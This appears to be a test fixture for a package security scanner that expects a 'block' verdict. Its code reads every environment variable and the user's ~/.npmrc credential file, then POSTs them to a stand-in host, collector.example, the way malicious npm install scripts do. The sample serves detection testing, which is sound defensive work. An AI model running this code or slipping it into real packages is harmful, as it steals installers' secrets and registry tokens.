// sample: Scanner: environment exfiltration over the network
// expect-verdict: block
// expect-findings: exfiltration, process-env, sensitive-path, fs-access
//
// What malicious npm install scripts do: gather the environment and a credential file,
// then post them home.
const fs = require("fs");
const os = require("os");
const payload = JSON.stringify({ env: process.env, npmrc: fs.readFileSync(os.homedir() + "/.npmrc", "utf8") });
fetch("https://collector.example/c", { method: "POST", body: payload });
